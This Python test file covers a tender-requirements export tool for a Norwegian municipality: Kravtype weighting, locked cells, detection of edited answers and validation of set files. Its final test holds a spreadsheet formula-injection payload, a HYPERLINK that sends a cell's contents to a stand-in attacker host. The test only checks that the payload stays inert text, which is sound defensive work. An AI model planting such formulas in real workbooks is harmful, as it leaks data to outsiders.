"""The municipality's tender set: the set file, the Kravtype column and how check-answers weighs a Nei."""

from __future__ import annotations

import json
from pathlib import Path

import openpyxl
import pytest

from journalloft.requirements.cli import main

SET = Path(__file__).parent / "sets" / "kommune.yaml"
GOOD = {2: ("Ja", "Avtalen sier det."), 3: ("Ja", "CSV og FHIR."), 4: ("Ja", "Patient og Observation.")}


def _export(fixture_root: Path, path: Path, *args: str) -> Path:
    assert main(["--catalogue", str(fixture_root), "export", "--format", "xlsx", *args, "--output", str(path)]) == 0
    return path


def _answer(path: Path, answers: dict[int, tuple[str, str]], **cells: str) -> Path:
    workbook = openpyxl.load_workbook(path)
    sheet = workbook["Krav"]
    for row, (answer, description) in answers.items():
        sheet[f"M{row}"] = answer
        sheet[f"N{row}"] = description
    for where, value in cells.items():
        sheet[where] = value
    workbook.save(path)
    return path


def _findings(
    fixture_root: Path, path: Path, capsys: pytest.CaptureFixture[str], *args: str
) -> tuple[int, list[tuple[str, str, str]]]:
    code = main(["--catalogue", str(fixture_root), "check-answers", str(path), "--format", "json", *args])
    report = json.loads(capsys.readouterr().out)
    return code, [(f["cell"], f["severity"], f["code"]) for f in report["findings"]]


def test_export_writes_the_municipalitys_kravtype_and_weight(fixture_root: Path, tmp_path: Path) -> None:
    workbook = openpyxl.load_workbook(_export(fixture_root, tmp_path / "bilag.xlsx", "--set", str(SET)))
    sheet = workbook["Krav"]
    assert [sheet.cell(1, column).value for column in (6, 7)] == ["Kravtype", "Vekt"]
    assert [(row[0], row[5], row[6]) for row in sheet.iter_rows(min_row=2, values_only=True)] == [
        ("FJL-INF-001", "A", None),
        ("FJL-INF-002", "V", 30),
        ("FJL-DEL-001", "Ø", None),
    ]
    metadata = {row[0]: row[1] for row in workbook["Om eksporten"].iter_rows(values_only=True)}
    assert metadata["Kommunens kravtype per krav"] == "FJL-INF-001=A, FJL-INF-002=V:30, FJL-DEL-001=Ø"
    assert metadata["Utvalg"] == "Testkommunens journalanskaffelse: kommunens utvalg (kommune.yaml)"


def test_requirement_columns_are_locked_and_answer_columns_open(fixture_root: Path, tmp_path: Path) -> None:
    sheet = openpyxl.load_workbook(_export(fixture_root, tmp_path / "bilag.xlsx", "--set", str(SET)))["Krav"]
    assert sheet.protection.sheet is True
    assert not sheet.protection.password  # no password: the lock stops slips, check-answers catches intent
    assert all(sheet.cell(2, column).protection.locked for column in range(1, 13))
    assert not sheet["M2"].protection.locked
    assert not sheet["N4"].protection.locked


@pytest.mark.parametrize(
    ("answers", "expected_code", "expected"),
    [
        ({2: ("Nei", "Nei.")}, 1, [("Krav!M2", "error", "absolute-not-fulfilled")]),
        ({3: ("Nei", "Nei.")}, 0, [("Krav!M3", "warning", "evaluated-not-fulfilled")]),
        ({4: ("Nei", "Nei.")}, 0, [("Krav!M4", "info", "wish-not-fulfilled")]),
        ({2: ("Delvis", "Delvis.")}, 0, [("Krav!M2", "warning", "absolute-partly-fulfilled")]),
    ],
)
def test_a_no_weighs_by_the_municipalitys_kravtype(
    fixture_root: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    *,
    answers: dict[int, tuple[str, str]],
    expected_code: int,
    expected: list[tuple[str, str, str]],
) -> None:
    path = _answer(_export(fixture_root, tmp_path / "svar.xlsx", "--set", str(SET)), {**GOOD, **answers})
    assert _findings(fixture_root, path, capsys) == (expected_code, expected)


def test_the_catalogues_suggested_use_no_longer_decides(
    fixture_root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # FJL-INF-002 is suggested as absolute in the catalogue; the municipality made it V, so Nei is no error.
    path = _answer(_export(fixture_root, tmp_path / "svar.xlsx", "--set", str(SET)), {**GOOD, 3: ("Nei", "Nei.")})
    code, findings = _findings(fixture_root, path, capsys)
    assert code == 0
    assert ("Krav!M3", "error", "absolute-not-fulfilled") not in findings


def test_missing_kravtype_is_reported_per_row(
    fixture_root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _answer(_export(fixture_root, tmp_path / "svar.xlsx"), {**GOOD, 2: ("Nei", "Nei.")})
    assert _findings(fixture_root, path, capsys) == (
        0,
        [
            ("Krav!F2", "warning", "kravtype-missing"),
            ("Krav!F3", "warning", "kravtype-missing"),
            ("Krav!F4", "warning", "kravtype-missing"),
        ],
    )


def test_edited_requirement_cells_are_reported_at_the_cell(
    fixture_root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _export(fixture_root, tmp_path / "svar.xlsx", "--set", str(SET))
    original = openpyxl.load_workbook(path)["Krav"]["E3"].value
    path = _answer(path, GOOD, D2="En annen tittel", E3=original.replace("skal", "bør", 1), F2="Ø", G3="5")
    code, findings = _findings(fixture_root, path, capsys)
    assert code == 1
    assert findings == [
        ("Krav!D2", "error", "requirement-changed"),
        ("Krav!F2", "error", "kravtype-changed"),
        ("Krav!E3", "error", "requirement-changed"),
        ("Krav!G3", "error", "kravtype-changed"),
    ]


def test_a_changed_id_is_caught(fixture_root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = _export(fixture_root, tmp_path / "svar.xlsx", "--ids", "FJL-INF-001,FJL-INF-002")
    path = _answer(path, {2: GOOD[2], 3: GOOD[3]}, A3="FJL-DEL-001")
    code, findings = _findings(fixture_root, path, capsys)
    assert code == 1
    assert findings[:3] == [
        ("Krav!F2", "warning", "kravtype-missing"),
        ("Krav!A3", "error", "id-not-exported"),
        ("Krav!D3", "error", "requirement-changed"),
    ]
    assert ("Om eksporten!B7", "error", "requirement-missing") in findings


def test_the_municipalitys_own_file_outranks_an_edited_workbook(
    fixture_root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _export(fixture_root, tmp_path / "svar.xlsx", "--set", str(SET))
    workbook = openpyxl.load_workbook(path)
    workbook["Krav"]["F2"] = "Ø"
    workbook["Krav"]["M2"] = "Nei"
    for row in workbook["Om eksporten"].iter_rows():
        if row[0].value == "Kommunens kravtype per krav":
            row[1].value = "FJL-INF-001=Ø, FJL-INF-002=V:30, FJL-DEL-001=Ø"
    workbook.save(path)
    path = _answer(path, {3: GOOD[3], 4: GOOD[4]})
    assert _findings(fixture_root, path, capsys) == (0, [("Krav!M2", "info", "wish-not-fulfilled")])
    assert _findings(fixture_root, path, capsys, "--set", str(SET)) == (
        1,
        [("Krav!F2", "error", "kravtype-changed"), ("Krav!M2", "error", "absolute-not-fulfilled")],
    )


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("requirements: []\n", "should be non-empty"),
        ("requirements:\n  - id: FJL-INF-001\n    kravtype: A\n    weight: 10\n", "/requirements/0"),
        ("requirements:\n  - id: FJL-INF-001\n    kravtype: X\n", "'X' is not one of ['A', 'V', 'Ø']"),
        ("requirements:\n  - {id: FJL-INF-001, kravtype: A}\n  - {id: FJL-INF-001, kravtype: V}\n", "står to ganger"),
        ("requirements:\n  - {id: FJL-INF-003, kravtype: A}\n", "finnes ikke i versjon 2.0.0: FJL-INF-003"),
        ("version: '9.9.9'\nrequirements:\n  - {id: FJL-INF-001, kravtype: A}\n", "9.9.9 finnes ikke i katalogen"),
        ("requirements: [\n", "ikke gyldig YAML"),
    ],
)
def test_bad_set_files_are_usage_errors(
    fixture_root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], content: str, message: str
) -> None:
    bad = tmp_path / "sett.yaml"
    bad.write_text(content, encoding="utf-8")
    assert main(["--catalogue", str(fixture_root), "export", "--set", str(bad)]) == 2
    err = capsys.readouterr().err
    assert message in err
    assert "Traceback" not in err


def test_set_from_json_and_filters_together_are_refused(
    fixture_root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    json_set = tmp_path / "sett.json"
    json_set.write_text(json.dumps({"requirements": [{"id": "FJL-DEL-001", "kravtype": "V", "weight": 12.5}]}))
    assert main(["--catalogue", str(fixture_root), "export", "--set", str(json_set)]) == 0
    document = json.loads(capsys.readouterr().out)
    assert document["tender_set"] == [{"id": "FJL-DEL-001", "kravtype": "V", "weight": 12.5}]
    assert main(["--catalogue", str(fixture_root), "export", "--set", str(json_set), "--level", "må"]) == 2
    assert "utelat --ids og filtrene" in capsys.readouterr().err


def test_a_set_title_starting_with_equals_is_text_in_every_sheet(fixture_root: Path, tmp_path: Path) -> None:
    title = '=HYPERLINK("https://angriper.example/?d="&Krav!E2,"Les vilkårene")'
    hostile = tmp_path / "sett.yaml"
    hostile.write_text(SET.read_text(encoding="utf-8").replace("Testkommunens journalanskaffelse", f"'{title}'"))
    workbook = openpyxl.load_workbook(_export(fixture_root, tmp_path / "bilag.xlsx", "--set", str(hostile)))
    about = {row[0].value: row[1] for row in workbook["Om eksporten"].iter_rows()}
    cell = about["Utvalg"]
    assert (cell.value, cell.data_type) == (f"{title}: kommunens utvalg (sett.yaml)", "s")
    strings = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type in ("s", "n") for c in strings), [(c.coordinate, c.data_type) for c in strings]
    assert any(c.data_type == "n" for c in strings)  # the weight stays a number
